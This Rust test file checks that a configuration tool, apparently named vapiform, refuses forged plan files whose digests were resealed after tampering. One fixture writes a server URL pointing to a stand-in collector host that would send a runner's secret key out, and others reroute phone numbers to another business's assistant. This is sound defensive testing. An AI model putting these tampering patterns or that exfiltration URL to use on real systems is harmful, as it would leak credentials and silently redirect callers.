//! A plan file whose digest was recomputed after an edit passes the digest check, so `apply`
//! also checks that every change writes what the plan shows for it: a forged plan that `show`
//! displays as reviewed, but routes a number elsewhere or writes a field it does not show, is
//! refused before anything is written.

use serde_json::{Value, json};

use crate::support::Workspace;

/// Bob's Bakery's assistant in the quickstart account: not where any reviewed change goes.
const BOB: &str = "7f3c1e2a-5b6d-4c8e-9f01-23456789abcd";

/// The quickstart's saved plan, edited by `forge` and sealed again with a digest that matches.
fn forged(workspace: &Workspace, forge: impl FnOnce(&mut Value)) {
    workspace.save_plan();
    let mut plan: Value = serde_json::from_str(&workspace.read("plan.json")).unwrap();
    forge(&mut plan);
    let text = plan.to_string();
    plan["digest"] = json!(vapiform::plan_digest(&text).unwrap());
    workspace.write("plan.json", &plan.to_string());
}

fn change<'a>(plan: &'a mut Value, address: &str) -> &'a mut Value {
    plan["changes"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|c| c["address"] == address)
        .unwrap_or_else(|| panic!("no change of {address}"))
}

/// `apply` of the forged plan exits 1 naming `address` and `detail`, and writes nothing.
#[track_caller]
fn refused(workspace: &Workspace, address: &str, detail: &str) -> String {
    let before = workspace.read("account.json");
    let run = workspace
        .sandbox()
        .env("VAPIFORM_TEST_SECRET", "sk-live-do-not-print")
        .args(["apply", "--plan", "plan.json", "--yes"])
        .run()
        .code(1);
    assert!(
        run.stderr.contains("does not write what it shows")
            && run.stderr.contains(address)
            && run.stderr.contains(detail),
        "{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains("sk-live-do-not-print"),
        "{}",
        run.stderr
    );
    assert_eq!(workspace.read("account.json"), before, "nothing written");
    run.stderr
}

#[test]
fn a_number_routed_elsewhere_than_the_plan_shows_is_refused() {
    let workspace = Workspace::quickstart();
    // The request alone goes to Bob's Bakery.
    forged(&workspace, |plan| {
        change(plan, "number/+14155550101")["write"]["route"] = json!({"id": BOB});
    });
    refused(&workspace, "number/+14155550101", "assistantId");

    // The request, its field change and its routing line's id all go to Bob's Bakery, while
    // the line still reads "Acme Plumbing (assistant/acme-plumbing)" as reviewed.
    forged(&workspace, |plan| {
        let number = change(plan, "number/+14155550101");
        number["write"]["route"] = json!({"id": BOB});
        number["fields"][0]["after"] = json!(BOB);
        number["routing"]["to"]["id"] = json!(BOB);
    });
    let shown = workspace
        .sandbox()
        .args(["show", "plan.json"])
        .run()
        .code(0);
    assert!(
        shown
            .stdout
            .contains("→ Acme Plumbing (assistant/acme-plumbing)"),
        "{}",
        shown.stdout
    );
    refused(
        &workspace,
        "number/+14155550101",
        "as assistant/acme-plumbing, whose label it does not carry",
    );
}

#[test]
fn a_request_that_writes_a_field_the_plan_does_not_show_is_refused() {
    let workspace = Workspace::quickstart();
    // A server URL that would send a secret of the runner to someone else.
    forged(&workspace, |plan| {
        change(plan, "assistant/acme-plumbing")["write"]["body"]["server"] =
            json!({"url": "https://collector.example/?k=${env.VAPIFORM_TEST_SECRET}"});
    });
    refused(&workspace, "assistant/acme-plumbing", "server.url");

    // A change shown as updating one assistant that writes another.
    forged(&workspace, |plan| {
        let acme = change(plan, "assistant/acme-plumbing");
        acme["write"]["id"] = json!(BOB);
        acme["precondition"]["id"] = json!(BOB);
        // No fingerprint to check, so the edit is not caught as a stale plan.
        acme["precondition"]["fields"] = json!({});
    });
    refused(
        &workspace,
        "assistant/acme-plumbing",
        "would not carry the label of `acme-plumbing`",
    );
}

type Forge = fn(&mut Value);

#[test]
fn a_change_whose_parts_do_not_go_together_is_not_a_plan() {
    let workspace = Workspace::quickstart();
    workspace.save_plan();
    let sealed: Value = serde_json::from_str(&workspace.read("plan.json")).unwrap();
    let before = workspace.read("account.json");
    let forgeries: [(&str, Forge, &str); 4] = [
        // A create shown as one object whose request is a delete.
        (
            "assistant/carols-cafe",
            |c| c["write"] = json!({"request": "delete_assistant", "id": BOB}),
            "its action (create) and its request (DELETE /assistant) do not go together",
        ),
        // An update whose check before writing is of another object than it writes.
        (
            "assistant/acme-plumbing",
            |c| c["precondition"]["id"] = json!(BOB),
            "but checks another object before writing",
        ),
        // A create of another key than the one shown.
        (
            "assistant/carols-cafe",
            |c| c["write"]["key"] = json!("acme-plumbing"),
            "it creates the assistant of `acme-plumbing`",
        ),
        // A number update shown in a phase it does not run in.
        (
            "number/+14155550101",
            |c| c["phase"] = json!("deletes"),
            "it runs in the routing phase, not deletes",
        ),
    ];
    for (address, forge, detail) in forgeries {
        let mut plan = sealed.clone();
        forge(change(&mut plan, address));
        workspace.write("plan.json", &plan.to_string());
        for command in [
            &["show", "plan.json"][..],
            &["apply", "--plan", "plan.json", "--yes"],
        ] {
            let run = workspace.sandbox().args(command).run().code(1);
            assert!(
                run.stderr.contains("is not a valid vapiform plan")
                    && run.stderr.contains(&format!("the change of {address}: "))
                    && run.stderr.contains(detail),
                "{}",
                run.stderr
            );
        }
        assert_eq!(workspace.read("account.json"), before, "nothing written");
    }
}

#[test]
fn a_routing_line_that_hides_who_callers_reach_now_is_refused() {
    let workspace = Workspace::quickstart();
    // Shown as assigning an unrouted number, so the mass-change rule would not count it.
    forged(&workspace, |plan| {
        let number = change(plan, "number/+14155550103");
        number["action"] = json!("assign");
        number["routing"]["from"] = json!({"kind": "nothing"});
    });
    refused(
        &workspace,
        "number/+14155550103",
        "shown as assign, but its request makes it reassign",
    );
    forged(&workspace, |plan| {
        change(plan, "number/+14155550103")["routing"]["from"] = json!({"kind": "nothing"});
    });
    refused(
        &workspace,
        "number/+14155550103",
        "shows its calls going somewhere else now",
    );
}
